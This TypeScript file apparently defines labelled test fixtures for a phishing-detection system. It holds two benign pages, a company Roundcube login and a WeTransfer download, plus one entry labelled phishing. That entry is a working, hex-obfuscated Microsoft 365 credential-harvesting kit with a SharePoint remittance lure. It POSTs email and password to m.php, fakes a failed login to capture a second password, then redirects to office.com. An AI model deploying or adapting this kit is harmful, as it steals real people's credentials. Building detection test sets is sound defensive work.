import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, fileRoute, zip, pngRoute } from '../parts/e-bin.js';
import { page, msCss, msLogo, appCss, badge, wordmark, b64, hex } from '../parts/ya-kit.js';

const m365Kit = (action: string, banner: string): string => page({
  title: 'Sign in to your account',
  css: msCss,
  body: `<div class="outer">
<div class="card">
  ${msLogo}
  <div id="p1"><div class="title">Sign in</div>
  <div style="font-size:13px;color:#444;background:#f3f6fb;padding:8px 10px;margin-bottom:6px">${banner}</div>
  <input class="input" type="email" id="em" placeholder="Email, phone, or Skype" autocomplete="username">
  <div class="err" id="e1">Enter a valid email address, phone number, or Skype name.</div>
  <div class="links"><a href="#">Can't access your account?</a></div>
  <div class="btnrow"><button class="btn btn-primary" id="nx">Next</button></div></div>
  <div id="p2" style="display:none"><div class="ident">&larr; <span id="who"></span></div><div class="title">Enter password</div>
  <input class="input" type="password" id="pw" placeholder="Password" autocomplete="current-password">
  <div class="err" id="e2">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
  <div class="links"><a href="#">Forgot my password</a></div>
  <div class="btnrow"><button class="btn btn-primary" id="si">Sign in</button></div></div>
</div>
<div class="opts">&#128273; Sign-in options</div>
<div class="footer"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
</div>
<script>
var c=0,h=location.hash.slice(1);try{if(h){document.getElementById('em').value=/@/.test(h)?h:atob(h);}}catch(e){}
document.getElementById('nx').onclick=function(){var v=document.getElementById('em').value;if(!/^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$/i.test(v)){document.getElementById('e1').style.display='block';return;}
document.getElementById('who').textContent=v;document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block';};
document.getElementById('si').onclick=function(){var p=document.getElementById('pw').value;if(!p)return;c++;
var x=new XMLHttpRequest();x.open('POST','${action}',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.onload=function(){if(c<2){document.getElementById('e2').style.display='block';document.getElementById('pw').value='';}else{location.replace('https://www.office.com/');}};
x.send('ai='+encodeURIComponent(document.getElementById('em').value)+'&pr='+encodeURIComponent(p)+'&n='+c);};
</script>`,
});

export const entries: Entry[] = [
{
  id: 'ya-sharepoint-remittance-hex-kit',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://www.oakvillepaving.ca/wp-content/uploads/2025/10/rem/index.html#YWNjb3VudHNAdG9yYnJvb2tzdXBwbHkuY2E=',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><meta name="robots" content="noindex"><title>&#8203;</title></head><body>
<script>
var _x="${hex(m365Kit('m.php', '&#128196; <b>Remittance Advice – EFT 10/24.pdf</b> was shared with you via SharePoint. Sign in to view.'))}";
function _d(h){var o='';for(var i=0;i<h.length;i+=2)o+='%'+h.substr(i,2);return decodeURIComponent(o);}
document.open();document.write(_d(_x));document.close();
</script></body></html>`,
  routes: { 'www.oakvillepaving.ca/wp-content/uploads/2025/10/rem/m.php': htmlRoute('ok') },
},
{
  id: 'ya-roundcube-company-own-webmail',
  label: 'clean',
  kind: 'webmail-own-domain',
  url: 'https://webmail.brennanjoinery.ie/?_task=login',
  body: page({
    title: 'Brennan Joinery Webmail :: Welcome to Brennan Joinery Webmail',
    lang: 'en-IE',
    head: `<link rel="shortcut icon" href="skins/elastic/images/favicon.ico"><link rel="stylesheet" href="skins/elastic/styles/styles.min.css?s=1697112351">`,
    css: `body{margin:0;font-family:"Source Sans Pro","Helvetica Neue",Arial,sans-serif;background:#f4f4f4;color:#2c363a}
#layout{display:flex;align-items:center;justify-content:center;min-height:100vh;flex-direction:column}
.box{background:#fff;border:1px solid #d4dbde;border-radius:4px;padding:26px 30px;width:340px}
table{width:100%}td{padding:6px 0}td.title{width:90px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:8px;border:1px solid #b2bdc3;border-radius:3px;font-size:14px}
.mainaction{width:100%;margin-top:12px;background:#8a5a2b;color:#fff;border:0;padding:10px;border-radius:3px;font-size:15px;cursor:pointer}
#footer{margin-top:16px;font-size:12px;color:#8a9aa3;text-align:center}`,
    body: `<div id="layout">
<div style="margin-bottom:18px;display:flex;align-items:center;gap:10px">${badge('BJ', '#8a5a2b')}<b style="font-size:20px">Brennan Joinery</b></div>
<div class="box">
<form name="login-form" method="post" action="./?_task=login">
<input type="hidden" name="_token" value="p0Q8vX3rT6yK1mZ9wB4nC7sE2hJ5aL0d">
<input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" id="rcmlogintz" value="_default_"><input type="hidden" name="_url" value="">
<table><tr><td class="title"><label for="rcmloginuser">Username</label></td><td><input name="_user" id="rcmloginuser" required autocapitalize="none" autocomplete="username"></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td><input name="_pass" id="rcmloginpwd" required type="password" autocomplete="current-password"></td></tr></table>
<button type="submit" class="mainaction" id="rcmloginsubmit">Login</button>
</form></div>
<div id="footer">Brennan Joinery Ltd · IT support: Ardee Networks, 041 685 3390<br>Webmail will never email you about storage quotas — report such messages to IT.</div></div>
<script>try{document.getElementById('rcmlogintz').value=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}</script>`,
  }),
},
{
  id: 'ya-wetransfer-download-own-domain',
  label: 'clean',
  kind: 'file-share-own-domain',
  url: 'https://wetransfer.com/downloads/6c1e0a9b7f3d4e2a8c5b1f0e9d7a3c6b20251021113402/4f2a1c',
  body: page({
    title: 'WeTransfer - Send Large Files & Share Photos Online - Up to 3GB Free',
    css: `body{margin:0;font-family:"Inter",Arial,sans-serif;background:linear-gradient(135deg,#3b1f5c,#0b6e8a);min-height:100vh}
.panel{position:absolute;left:60px;top:90px;width:300px;background:#fff;border-radius:10px;box-shadow:0 10px 30px rgba(0,0,0,.3);padding:26px}
.file{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:8px 0;font-size:13px}
.dl{display:block;text-align:center;background:#409fff;color:#fff;text-decoration:none;padding:12px;border-radius:22px;font-weight:600;margin-top:18px}
.logo{position:absolute;left:60px;top:30px;color:#fff;font-weight:800;font-size:22px}`,
    body: `<div class="logo">we</div>
<div class="panel">
<h2 style="margin:0 0 4px;font-size:20px">Ready when you are</h2>
<p style="font-size:13px;color:#666;margin:0 0 14px">Sent by sarah@brackenarchitects.co.uk · Expires in 6 days</p>
<p style="font-size:14px">"Hi Tom – the revised floor plans and the signed variation order as discussed. S."</p>
<div class="file"><span>Flat4_FloorPlans_revC.pdf</span><span>2.1 MB</span></div>
<div class="file"><span>Variation_Order_07_signed.pdf</span><span>384 KB</span></div>
<a class="dl" href="/api/v4/transfers/6c1e0a9b7f3d4e2a8c5b1f0e9d7a3c6b20251021113402/download.zip" download>Download</a>
<p style="font-size:11px;color:#999;margin-top:14px">2 files · 2.5 MB · <a href="https://wetransfer.com/explore/legal/terms">Terms</a> · <a href="https://wetransfer.com/explore/support/report-abuse">Report this transfer</a></p>
</div>`,
  }),
  routes: {
    'wetransfer.com/api/v4/transfers/6c1e0a9b7f3d4e2a8c5b1f0e9d7a3c6b20251021113402/download.zip': fileRoute(zip([
      { name: 'Flat4_FloorPlans_revC.pdf', data: '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/MediaBox[0 0 842 595]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n' },
      { name: 'Variation_Order_07_signed.pdf', data: '%PDF-1.6\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n' },
    ]), 'application/zip', 'wetransfer_flat4-floorplans_2025-10-21_1134.zip'),
  },
},
];
